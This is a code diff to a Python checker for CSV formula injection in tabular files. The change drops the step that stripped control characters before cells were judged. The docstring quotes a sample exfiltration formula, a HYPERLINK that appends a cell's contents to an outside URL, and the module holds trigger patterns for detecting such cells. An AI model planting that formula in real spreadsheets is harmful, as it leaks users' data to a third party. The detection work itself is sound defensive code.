@@ -2,7 +2,8 @@
 text beginning with `=`, `+`, `-`, `@`, TAB or CR (OWASP "CSV injection", CWE-1236). A formula
 such as `=HYPERLINK("https://…?leak="&A1)` can send the sheet's data away or run commands.
 Phone numbers (`+33 6 12 34 56 78`) and plain numbers (`-12,5`) are not a risk and pass. A cell is
-judged without the characters `control-characters` removes (`U+001F` then `=1+1` is written `=1+1`).
+judged as the engine hands it, without the characters `control-characters` removes
+(`engine/visible`: `U+001F` then `=1+1` is written `=1+1`, and judged so).
 
 The default action only flags the row: the CSV outputs are made safe by their writer whatever the
 rules (`write.formulas`: a leading apostrophe, unless `--keep-formulas`), and a workbook output
@@ -25,10 +26,8 @@ import re
 
 import numpy as np
 import pyarrow as pa
-import pyarrow.compute as pc
 
 from fichier_check.checks.base import CheckContext, Hits
-from fichier_check.checks.control_characters import PATTERN as CONTROL, RE2_PATTERN as RE2_CONTROL, holding, holding_cells
 from fichier_check.table import first_bytes, matches, same_texts
 
 TYPE = "formula_injection"
@@ -47,24 +46,17 @@ RE2_HARMLESS = HARMLESS.pattern[:-1] + "\n?$"
 
 
 def is_formula(text: str) -> bool:
-    text = CONTROL.sub("", text)
     return text.startswith(TRIGGERS) and not HARMLESS.match(text)
 
 
 _TRIGGER_BYTES = np.frombuffer("".join(TRIGGERS).encode("ascii"), dtype=np.uint8)
 
 
-def formulas(cells, hiding: np.ndarray | None = None) -> np.ndarray:
+def formulas(cells) -> np.ndarray:
     """`is_formula` of every cell of an Arrow string array, with no Python per cell: the first bytes
-    say which cells start with a trigger (all ASCII), one RE2 pass over those says which are harmless;
-    the few cells holding control characters (`hiding`, else found here) are judged again without them."""
+    say which cells start with a trigger (all ASCII), one RE2 pass over those says which are harmless."""
     first = first_bytes(cells)
-    found = _judged(cells, matches(cells, TRIGGER_PATTERN) if first is None else np.isin(first, _TRIGGER_BYTES))
-    hidden = np.flatnonzero(holding(cells) if hiding is None else hiding)
-    if len(hidden):
-        stripped = pc.replace_substring_regex(cells.take(pa.array(hidden)), RE2_CONTROL, "")
-        found[hidden] = _judged(stripped, matches(stripped, TRIGGER_PATTERN))
-    return found
+    return _judged(cells, matches(cells, TRIGGER_PATTERN) if first is None else np.isin(first, _TRIGGER_BYTES))
 
 
 def _judged(cells, starts: np.ndarray) -> np.ndarray:
@@ -80,7 +72,7 @@ def check(ctx: CheckContext, params: dict) -> list[Hits]:
     hits = []
     for position in range(len(ctx.columns.header)):
         cells = ctx.arrow(position)
-        flagged = formulas(cells, holding_cells(ctx, position))
+        flagged = formulas(cells)
         if not flagged.any():
             continue  # most columns: one RE2 pass over the cells
         rows = np.flatnonzero(flagged)
